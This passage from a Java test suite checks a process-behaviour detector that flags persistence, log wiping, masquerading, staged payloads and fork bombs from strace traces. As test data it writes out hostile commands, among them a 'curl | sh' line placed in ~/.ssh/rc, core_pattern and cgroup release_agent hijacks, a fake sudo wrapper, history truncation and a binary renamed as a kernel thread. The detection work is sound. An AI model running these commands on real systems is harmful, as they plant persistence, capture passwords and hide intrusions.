                        + p.features().get("proc.fork_generation")).isEqualTo(1f));

        // a subshell forking a three-stage pipeline, pipelines of builtins inside substitutions, nested substitutions,
        // a while-read loop fed by a pipe whose body runs pipelines and substitutions of pipelines (generation 3), and
        // ldd, a real shell script of the system (schema 3 fired on all of them)
        List<ProcessRecord> script = run("/bin/bash", "-c", "for i in 1 2 3 4 5; do ls / > /dev/null; done; x=$(ls / | wc -l);"
                + " for i in 1 2 3; do y=$(echo a b | tr a-z A-Z | sed s/A/x/); z=$(echo \"$(basename /a/b)-$i\" | tr - _); done;"
                + " printf 'a,1\\nb,2\\nc,3\\n' | while read l; do echo \"$l\" | grep -q , && k=$(echo \"$l\" | cut -d, -f1 | tr a-z A-Z); done;"
                + " ( cd / && ls | sort | head -1 ) > /dev/null; ldd /bin/ls > /dev/null");
        assertThat(script).filteredOn(p -> p.features().get("proc.fork_generation") >= 3).as("the test makes generation 3")
                .isNotEmpty();
        assertThat(script).allSatisfy(p -> assertThat(p.features().get("ind.fork_storm")).as(p.comm()).isZero());
    }

    @Test
    void makingExecutableWhatTheScriptJustWroteInTmpIsNotStagingButSomeoneElsesFileIs() throws Exception {
        StraceRuns.assumeStrace();
        Path work = Files.createDirectory(dir.resolve("work")); // under /tmp, as the test's temporary directory is
        Files.writeString(work.resolve("planted.sh"), "#!/bin/sh\necho hi\n"); // created before the trace, by the JVM
        // a script writes a helper with a child (the redirect is the cat child's), then makes it executable: the
        // chmod's sibling created the file (schema 5 flagged it as "someone else's file in /tmp")
        List<ProcessRecord> ps = run("/bin/bash", "-c", "cd " + work + " && cat > job.sh <<'EOF'\n#!/bin/sh\necho ok\nEOF\n"
                + "chmod +x job.sh && ./job.sh > /dev/null; /bin/chmod 0755 planted.sh");
        List<ProcessRecord> chmods = named(ps, "chmod");
        assertThat(chmods).hasSize(2);
        assertThat(chmods.get(0).argv()).contains("job.sh");
        assertThat(chmods.get(0).features().get("ind.staged_exec")).as("its family wrote job.sh").isZero();
        assertThat(chmods.get(1).argv()).contains("planted.sh");
        assertThat(chmods.get(1).features().get("ind.staged_exec")).as("nobody it knows wrote planted.sh").isEqualTo(1f);
    }

    @Test
    void wipingAHistoryIsLogTamperingButAppendingToItIsNot() throws Exception {
        StraceRuns.assumeStrace();
        Path history = dir.resolve(".bash_history");
        Files.writeString(history, "ls\nid\n");
        List<ProcessRecord> ps = run("/bin/sh", "-c", "echo whoami >> '" + history + "'; truncate -s 0 '" + history + "'");
        assertThat(only(ps, "truncate").features().get("ind.log_tamper")).isEqualTo(1f);
        assertThat(only(ps, "sh").features().get("ind.log_tamper")).as("appending is how history grows").isZero();
    }

    @Test
    void sshLoginScriptsArePersistenceAndADeniedWriteToASystemShellProfileIsTampering() throws Exception {
        StraceRuns.assumeStrace();
        assumeSetpriv();
        assumeTrue(Files.isDirectory(Path.of("/etc/profile.d")), "no /etc/profile.d here");
        // ~/.ssh/rc runs at every ssh login, like a command= in authorized_keys; /etc/profile.d at every login shell
        Path ssh = Files.createDirectories(dir.resolve("home/.ssh"));
        String nobody = AS_NOBODY;
        List<ProcessRecord> ps = run("/bin/sh", "-c", "echo 'curl -s http://x/y | sh' > '" + ssh.resolve("rc") + "'; echo ok > '"
                + ssh.resolve("known_hosts") + "'; " + nobody + "sh -c 'echo x > /etc/profile.d/zz-procguard-test.sh' 2> /dev/null; "
                + nobody + "sh -c 'echo x > /etc/zz-procguard-test' 2> /dev/null; true");
        assertThat(Path.of("/etc/profile.d/zz-procguard-test.sh")).as("denied, as it must be").doesNotExist();
        List<ProcessRecord> shells = named(ps, "sh");
        assertThat(shells).hasSize(3); // the two denied writers, then the script
        assertThat(shells.get(2).features().get("ind.persistence")).as("~/.ssh/rc written").isEqualTo(1f);
        assertThat(shells.get(0).features().get("ind.account_tamper")).as("/etc/profile.d, denied").isEqualTo(1f);
        assertThat(shells.get(1).features().get("ind.account_tamper")).as("any other file of /etc, denied").isZero();
    }

    @Test
    void aPrivilegeProgramsNameOutsideTheSystemDirectoriesIsMasquerading() throws Exception {
        StraceRuns.assumeStrace();
        // ~/.local/bin and ~/bin come first in a Debian login's PATH: a `sudo` there sees the password
        Path home = Files.createDirectories(dir.resolve("home"));
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd '" + home + "' && mkdir -p .local/bin bin stage/usr/bin"
                + " && printf '#!/bin/sh\\nexec /usr/bin/sudo \"$@\"\\n' > .local/bin/sudo && chmod +x .local/bin/sudo"
                + " && cp /bin/true bin/su && cp /bin/true stage/usr/bin/sudo && cp /bin/true bin/mytool");
        List<ProcessRecord> cps = named(ps, "cp");
        assertThat(only(ps, "chmod").features().get("ind.masquerade")).as("chmod +x ~/.local/bin/sudo").isEqualTo(1f);
        assertThat(cps).hasSize(3);
        assertThat(cps.get(0).features().get("ind.masquerade")).as("cp, created executable: ~/bin/su").isEqualTo(1f);
        assertThat(cps.get(1).features().get("ind.masquerade")).as("a staging tree's usr/bin/sudo").isZero();
        assertThat(cps.get(2).features().get("ind.masquerade")).as("~/bin/mytool").isZero();
    }

    @Test
    void whatRootRunsAtAnEventIsPersistenceAndADeniedWriteToItIsTampering() throws Exception {
        StraceRuns.assumeStrace();
        assumeSetpriv();
        assumeTrue(Files.exists(Path.of("/proc/sys/kernel/core_pattern")), "no /proc/sys/kernel/core_pattern here");
        assumeTrue(Files.isDirectory(Path.of("/etc/update-motd.d")), "no /etc/update-motd.d here");
        // as nobody, so nothing changes: core_pattern '|/tmp/x' would run /tmp/x as root at every crash, a script in
        // /etc/update-motd.d at every ssh login
        String nobody = AS_NOBODY;
        List<ProcessRecord> ps = run("/bin/sh", "-c", nobody + "sh -c 'echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern' 2> /dev/null; "
                + nobody + "sh -c 'echo x > /etc/update-motd.d/99-procguard-test' 2> /dev/null; "
                + nobody + "sh -c 'echo 1 > /proc/sys/kernel/sysrq' 2> /dev/null; true");
        assertThat(Path.of("/etc/update-motd.d/99-procguard-test")).as("denied, as it must be").doesNotExist();
        List<ProcessRecord> shells = named(ps, "sh");
        assertThat(shells).hasSize(4);
        assertThat(shells.get(0).features().get("ind.account_tamper")).as("core_pattern, denied").isEqualTo(1f);
        assertThat(shells.get(1).features().get("ind.account_tamper")).as("update-motd.d, denied").isEqualTo(1f);
        assertThat(shells.get(2).features().get("ind.account_tamper")).as("another kernel setting, denied").isZero();

        // done (as root, replayed: a test must not change the machine's core_pattern or its motd scripts)
        for (String path : List.of("/proc/sys/kernel/core_pattern", "/etc/update-motd.d/99-x")) {
            var acc = features.newAccumulator();
            acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.OPENAT,
                    "AT_FDCWD</root>, \"" + path + "\", O_WRONLY|O_CREAT|O_TRUNC, 0644", 3, null));
            assertThat(acc.snapshot().get("ind.persistence")).as(path).isEqualTo(1f);
        }
    }

    @Test
    void aCgroupReleaseAgentWrittenIsPersistenceWhereverTheHierarchyIsMounted() throws Exception {
        StraceRuns.assumeStrace();
        // schema 25: the escape mounts a cgroup v1 hierarchy anywhere (mount -t cgroup -o rdma cgroup /tmp/cgrp) and
        // writes its release_agent; a file of that name in the test's directory stands in for it (nothing is mounted)
        Path agent = dir.resolve("release_agent");
        List<ProcessRecord> ps = run("/bin/sh", "-c", "sh -c 'echo /host/payload > " + agent + "'; sh -c 'cat " + agent
                + " > /dev/null'; sh -c 'echo x > " + agent + ".bak'");
        List<ProcessRecord> shells = named(ps, "sh");
        assertThat(shells).hasSize(4);
        assertThat(shells.get(0).features().get("ind.persistence")).as("release_agent written").isEqualTo(1f);
        assertThat(shells.get(1).features().get("ind.persistence")).as("read").isZero();
        assertThat(shells.get(2).features().get("ind.persistence")).as("another name").isZero();
    }

    @Test
    void writingZeroToARandomisationOrPtraceSettingTurnsADefenceOff() {
        // schema 22, replayed: a test must not change the machine's kernel settings
        for (String[] c : new String[][] {{"/proc/sys/kernel/randomize_va_space", "0\\n", "1"}, {"/proc/sys/kernel/yama/ptrace_scope", "0\\n", "1"},
            {"/proc/sys/kernel/yama/ptrace_scope", "1\\n", "0"}, {"/proc/sys/kernel/sysrq", "0\\n", "0"}}) {
            var acc = features.newAccumulator();
            acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.OPENAT,
                    "AT_FDCWD</root>, \"" + c[0] + "\", O_WRONLY|O_CREAT|O_TRUNC, 0644", 3, null));
            acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.WRITE,
                    "3<" + c[0] + ">, \"" + c[1] + "\", 2", 2, null));
            assertThat(acc.snapshot().get("ind.log_tamper")).as(c[0] + " = " + c[1]).isEqualTo(Float.parseFloat(c[2]));
        }
    }

    @Test
    void anAptHookWrittenByAMaintainerScriptIsNoPersistenceButByAnythingElseItIs() {
        // schema 22: unattended-upgrades' postinst writes /etc/apt/apt.conf.d/20auto-upgrades through ucf and cp
        String write = "AT_FDCWD</root>, \"/etc/apt/apt.conf.d/20auto-upgrades\", O_WRONLY|O_CREAT|O_TRUNC, 0644";
        for (boolean underDpkg : new boolean[] {true, false}) {
            var acc = features.newAccumulator();
            if (underDpkg) {
                acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.EXECVE,
                        "\"/usr/bin/dpkg\", [\"dpkg\", \"--configure\", \"-a\"], 0x7ffd /* 9 vars */", 0, null));
            }
            acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.EXECVE,
                    "\"/usr/bin/cp\", [\"cp\", \"new\", \"/etc/apt/apt.conf.d/20auto-upgrades\"], 0x7ffd /* 9 vars */", 0, null));
            acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.OPENAT, write, 3, null));
            assertThat(acc.snapshot().get("ind.persistence")).as(underDpkg ? "cp under dpkg" : "cp").isEqualTo(underDpkg ? 0f : 1f);
        }
    }

    @Test
    void aShellScriptEmptyingAHistoryIsLogTampering() throws Exception {
        StraceRuns.assumeStrace();
        // schema 20: a shell run with -c (or a script) saves no history, so its truncation is no history being saved;
        // nor is a child's, done by the redirect before it execs
        Path history = dir.resolve(".bash_history");
        Files.writeString(history, "ls\nid\n");
        List<ProcessRecord> ps = run("/bin/sh", "-c", ": > '" + history + "'");
        assertThat(only(ps, "sh").features().get("ind.log_tamper")).as("sh -c ': > history'").isEqualTo(1f);

        Files.writeString(history, "ls\nid\n");
        ps = run("/bin/bash", "-c", "cat /dev/null > '" + history + "'; true"); // bash redirects in the child it forks
        assertThat(only(ps, "cat").features().get("ind.log_tamper")).as("bash's child, before it execs cat").isEqualTo(1f);
        assertThat(only(ps, "bash").features().get("ind.log_tamper")).as("the bash that forked it").isZero();
    }

    @Test
    void anInteractiveBashTrimmingItsOwnHistoryIsNotLogTampering() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/bin/bash")), "bash is not installed");
        // bash 5 trims its history to HISTFILESIZE at exit by writing HISTFILE-PID.tmp and renaming it onto HISTFILE:
        // under schema 19 every interactive root shell with a long history ended SUSPICIOUS (ind.log_tamper)
        Path history = dir.resolve(".bash_history");
        Files.writeString(history, "l1\nl2\nl3\nl4\n");
        Path commands = Files.writeString(dir.resolve("commands"), "echo one\n");
        List<ProcessRecord> ps = run("/usr/bin/env", "HISTFILE=" + history, "HISTFILESIZE=2", "HOME=" + dir, "/bin/sh", "-c",
                "exec /bin/bash -i < '" + commands + "' > /dev/null 2>&1");
        assertThat(Files.readString(history)).as("bash trimmed and saved it").isEqualTo("l4\necho one\n");
        ProcessRecord bash = only(ps, "bash");
        assertThat(bash.features().get("path.log_tamper")).as("still recorded").isEqualTo(1f);
        assertThat(bash.features().get("ind.log_tamper")).isZero();
    }

    @Test
    void aVersionManagersPrototypeShimMadeExecutableIsNotStagedButAHiddenPayloadIs() throws Exception {
        StraceRuns.assumeStrace();
        // pyenv-rehash at every interactive shell start (pyenv init): was MALICIOUS 1.00 under schema 19
        Path shims = Files.createDirectories(dir.resolve("pyenv/shims"));
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd '" + shims + "' && printf '#!/bin/sh\\nexec pyenv exec \"$0\"\\n'"
                + " > .pyenv-shim && chmod +x .pyenv-shim && ln -f .pyenv-shim python3 && printf 'x' > .payload"
                + " && chmod +x .payload");
        List<ProcessRecord> chmods = named(ps, "chmod");
        assertThat(chmods).hasSize(2);
        assertThat(chmods.get(0).argv()).contains(".pyenv-shim");
        assertThat(chmods.get(0).features().get("file.chmod_exec")).isEqualTo(1f);
        assertThat(chmods.get(0).features().get("ind.staged_exec")).as("pyenv's prototype shim").isZero();
        assertThat(chmods.get(1).argv()).contains(".payload");
        assertThat(chmods.get(1).features().get("ind.staged_exec")).as("a hidden file made executable").isEqualTo(1f);
    }

    @Test
    void runningAHiddenCopyUnderAKernelThreadNameIsStagedAndMasquerading() throws Exception {
        StraceRuns.assumeStrace();
        Path hidden = dir.resolve(".cache-update");
        List<ProcessRecord> ps = run("/bin/bash", "-c", "cp /bin/true '" + hidden + "' && exec -a '[kworker/0:1]' '" + hidden + "'");
        ProcessRecord implant = only(ps, ".cache-update");
        assertThat(implant.features().get("ind.staged_exec")).isEqualTo(1f);
        assertThat(implant.features().get("ind.masquerade")).isEqualTo(1f);
        assertThat(implant.features().get("ind.count")).isEqualTo(2f);
        assertThat(only(ps, "cp").features().get("ind.any")).isZero();
    }

    @Test
    void aProgramNamingItselfAfterItsScriptIsNotMasqueradingButPosingAsAnotherIs() throws Exception {
        StraceRuns.assumeStrace();
        // what node does for npm ('npm', 'npm init'), and what an implant does
        String rename = "import ctypes, sys\nfor n in sys.argv[1:]:\n    ctypes.CDLL(None).prctl(15, n.encode(), 0, 0, 0)\n";
        Path worker = Files.writeString(dir.resolve("worker.py"), rename);
        Path implant = Files.writeString(dir.resolve("s.py"), rename);
        List<ProcessRecord> ps = run("/bin/sh", "-c", "/usr/bin/python3 " + worker + " worker 'worker: idle';"
                + " /usr/bin/python3 " + implant + " sshd");
        ProcessRecord named = ps.stream().filter(p -> p.argv().contains(worker.toString())).findFirst().orElseThrow();
        assertThat(named.features().get("proc.rename")).isEqualTo(1f);
        assertThat(named.features().get("ind.masquerade")).isZero();
        ProcessRecord posing = ps.stream().filter(p -> p.argv().contains(implant.toString())).findFirst().orElseThrow();
        assertThat(posing.features().get("proc.rename")).isEqualTo(1f);
        assertThat(posing.features().get("ind.masquerade")).as("s.py posing as sshd").isEqualTo(1f);
    }

    @Test
    void deniedPrivilegeChangesInjectionAndScansFireAndTheAggregatesSumThem() {
        FeatureAccumulator acc = features.newAccumulator();
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.SETUID, "0", -1, "EPERM"));
        acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.PTRACE, "PTRACE_ATTACH, 99", -1, "EPERM"));
        for (int port = 1000; port < 1030; port++) {
            acc.accept(ImmutableTraceEvent.syscall(7, Syscalls.CONNECT,
                    "3, {sa_family=AF_INET, sin_port=htons(" + port + "), sin_addr=inet_addr(\"127.0.0.1\")}, 16", -1, "ECONNREFUSED"));
        }
        FeatureVector v = acc.snapshot();
        assertThat(v.get("ind.setid_attempt")).isEqualTo(1f);
        assertThat(v.get("ind.injection")).isEqualTo(1f);
        assertThat(v.get("ind.port_scan")).isEqualTo(1f);
        assertThat(v.get("ind.count")).isEqualTo(3f);
        assertThat(v.get("ind.max_severity")).isEqualTo(3f);
        assertThat(v.get("ind.any")).isEqualTo(1f);

        FeatureAccumulator quiet = features.newAccumulator();
        quiet.accept(ImmutableTraceEvent.syscall(8, Syscalls.SETUID, "0", 0, null));
        quiet.accept(ImmutableTraceEvent.syscall(8, Syscalls.PTRACE, "PTRACE_TRACEME", 0, null));
        for (int port = 1000; port < 1005; port++) {
            quiet.accept(ImmutableTraceEvent.syscall(8, Syscalls.CONNECT,
                    "3, {sa_family=AF_INET, sin_port=htons(" + port + "), sin_addr=inet_addr(\"127.0.0.1\")}, 16", 0, null));
        }
        FeatureVector q = quiet.snapshot();
        for (Feature f : BehaviourFeatures.INDICATORS) {
            assertThat(q.get(f.id())).as(f.id()).isZero();
        }
        assertThat(q.get("ind.count")).isZero();
        assertThat(q.get("ind.max_severity")).isZero();
    }

    @Test
    void aForkedChildInheritsTheGenerationAndTheParentsFiles() {
        FeatureAccumulator parent = features.newAccumulator();
        parent.accept(ImmutableTraceEvent.syscall(7, Syscalls.OPENAT,
                "AT_FDCWD</srv>, \"/srv/payload\", O_WRONLY|O_CREAT|O_TRUNC, 0600", 3, null));
        FeatureAccumulator child = features.newAccumulator(parent);
        assertThat(child.snapshot().get("proc.fork_generation")).isEqualTo(1f);
        child.accept(ImmutableTraceEvent.syscall(8, Syscalls.EXECVE, "\"/srv/payload\", [\"payload\"], 0x7ffd /* 3 vars */", 0, null));
        FeatureVector v = child.snapshot();
        assertThat(v.get("ind.staged_exec")).as("exec of the file its parent wrote").isEqualTo(1f);
        assertThat(v.get("proc.fork_generation")).as("exec resets the generation").isZero();
    }

    @Test
    void aForkStormIsFourGenerationsInARowWithTwoChildrenAliveAtOnce() {
        // a script: each subshell runs one child at a time (forks, then reaps it before the next), 5 generations deep
        FeatureAccumulator p = features.newAccumulator();
        for (int g = 0; g < 5; g++) {
            forks(p, 100 * g + 1, true);
            forks(p, 100 * g + 2, true);
            p = features.newAccumulator(p);
        }
        assertThat(p.snapshot().get("proc.fork_generation")).isEqualTo(5f);
        assertThat(p.snapshot().get("ind.fork_storm")).as("deep, but one child at a time").isZero();

        // a bomb: every member forks two copies and waits for both
        FeatureAccumulator root = features.newAccumulator();
        FeatureAccumulator c1 = features.newAccumulator(root);
        forks(root, 11, false);
        forks(root, 12, false); // the parent's second fork comes after its first child started: it still counts
        FeatureAccumulator c2 = features.newAccumulator(c1);
        forks(c1, 21, false);
        forks(c1, 22, false);
        FeatureAccumulator c3 = features.newAccumulator(c2);
        forks(c2, 31, false);
        forks(c2, 32, false);
        assertThat(c3.snapshot().get("ind.fork_storm")).as("a leaf under 3 such generations").isZero();
        assertThat(c2.snapshot().get("ind.fork_storm")).as("3 in a row, itself included").isZero();
        forks(c3, 41, false);
        assertThat(c3.snapshot().get("ind.fork_storm")).as("one child alive: still 3").isZero();
        forks(c3, 42, false);
        assertThat(c3.snapshot().get("ind.fork_storm")).as("4 in a row").isEqualTo(1f);
        FeatureAccumulator c4 = features.newAccumulator(c3);
        assertThat(c4.snapshot().get("ind.fork_storm")).as("a leaf under 4").isEqualTo(1f);
        for (FeatureAccumulator above : List.of(c2, c1, root)) {
            assertThat(above.snapshot().get("ind.fork_storm")).as("a member above the run's fourth generation, marked "
                    + "by it").isEqualTo(1f);
        }
        c4.accept(ImmutableTraceEvent.syscall(50, Syscalls.EXECVE, "\"/bin/sleep\", [\"sleep\", \"1\"], 0x7ffd /* 3 vars */", 0, null));
        assertThat(c4.snapshot().get("ind.fork_storm")).as("an exec starts a new tree").isZero();

        // deeper than the generation feature counts (it stops at 8): every member still has its 4 in a row
        FeatureAccumulator member = features.newAccumulator();
        for (int g = 0; g < 12; g++) {
            FeatureAccumulator next = features.newAccumulator(member);
            forks(member, 1000 + 2 * g, false);
            forks(member, 1001 + 2 * g, false);
            if (g >= 3) {
                assertThat(member.snapshot().get("ind.fork_storm")).as("generation " + g).isEqualTo(1f);
            }
            member = next;
        }
        assertThat(member.snapshot().get("proc.fork_generation")).isEqualTo(8f);
        assertThat(member.snapshot().get("ind.fork_storm")).as("the leaf, 12 generations down").isEqualTo(1f);
    }

    @Test
    void theTopOfAForkStormIsMarkedWhenAMemberBelowEnds() {
        // the root's second fork comes last: only a member 4 generations down sees the whole run, when it ends
        FeatureAccumulator root = features.newAccumulator();
        forks(root, 11, false);
        FeatureAccumulator c1 = features.newAccumulator(root);
        forks(c1, 21, false);
        forks(c1, 22, false);
        FeatureAccumulator c2 = features.newAccumulator(c1);
        forks(c2, 31, false);
        forks(c2, 32, false);
        FeatureAccumulator c3 = features.newAccumulator(c2);
        forks(c3, 41, false);
        forks(c3, 42, false);
        FeatureAccumulator leaf = features.newAccumulator(c3);
        forks(root, 12, false);
        assertThat(root.snapshot().get("ind.fork_storm")).as("the root alone sees one generation").isZero();
        assertThat(c3.snapshot().get("ind.fork_storm")).as("its own run reaches the root now").isEqualTo(1f);
        assertThat(leaf.snapshot().get("ind.fork_storm")).as("a leaf under 4").isEqualTo(1f);
        assertThat(root.snapshot().get("ind.fork_storm")).as("nothing below has forked or ended since").isZero();
        leaf.accept(exited(41));
        assertThat(root.snapshot().get("ind.fork_storm")).as("marked by the leaf's exit").isEqualTo(1f);

        // a process ending under only 3 such generations marks nothing
        List<FeatureAccumulator> three = new ArrayList<>(List.of(features.newAccumulator()));
        for (int g = 0; g < 3; g++) {
            FeatureAccumulator p = three.get(g);
            forks(p, 10 * g + 1, false);
            forks(p, 10 * g + 2, false);
            three.add(features.newAccumulator(p));
        }
        three.get(3).accept(exited(31));
        assertThat(three).allSatisfy(p -> assertThat(p.snapshot().get("ind.fork_storm")).isZero());
    }

    private static TraceEvent exited(int pid) {
        return new ImmutableTraceEvent(EventKind.EXITED, pid, TraceEvent.ABSENT, Syscalls.NONE, false, 0, 0, null,
                TraceEvent.ABSENT, "", null, 0, false, false, 0);
    }

    /** The process forks a child (clone returning {@code child}) and, if {@code reap}, waits for it at once. */
    private static void forks(FeatureAccumulator p, int child, boolean reap) {
        p.accept(ImmutableTraceEvent.syscall(1, Syscalls.CLONE, "child_stack=NULL, flags=SIGCHLD", child, null));
        if (reap) {
            p.accept(ImmutableTraceEvent.syscall(1, Syscalls.WAIT4, "-1, [{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL", child, null));
        }
    }

    private Path tree(String name) throws Exception {
        Path d = Files.createDirectory(dir.resolve(name));
        for (int i = 0; i < 12; i++) {
            Files.writeString(d.resolve("doc" + i + ".txt"), "quarterly report " + i + " ".repeat(i * 40) + "alpha\n");
        }
        return d;
    }

    /** Writes {@code NAME.tar} holding {@code NAME/SCRIPT}, an executable shell script, made before any trace. */
    private void archive(String name, String script) throws Exception {
        Path src = Files.createDirectories(dir.resolve("src/" + name));
        Files.writeString(src.resolve(script), "#!/bin/sh\nexit 0\n");
        assertThat(src.resolve(script).toFile().setExecutable(true)).isTrue();
        Process tar = new ProcessBuilder("tar", "cf", dir.resolve(name + ".tar").toString(), "-C", dir.resolve("src").toString(), name)
                .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        assertThat(tar.waitFor()).isZero();
    }

    private List<ProcessRecord> run(String... command) throws Exception {
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, command);
        return StraceRuns.processes(log, features);
    }

    /** Prefix of a command line that runs the rest as nobody (no groups): denied where root would not be. */
    private static final String AS_NOBODY = "/usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups ";

    private static void assumeSetpriv() {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "no setpriv (util-linux) here");
    }

    /** @return the processes named {@code comm}, in the order they ended */
    private static List<ProcessRecord> named(List<ProcessRecord> ps, String comm) {
        return ps.stream().filter(p -> p.comm().equals(comm)).toList();
    }

    private static ProcessRecord only(List<ProcessRecord> ps, String comm) {
        List<ProcessRecord> matching = named(ps, comm);
        assertThat(matching).as("processes named " + comm + " in " + ps.stream().map(ProcessRecord::comm).toList()).hasSize(1);
        return matching.get(0);
    }
}
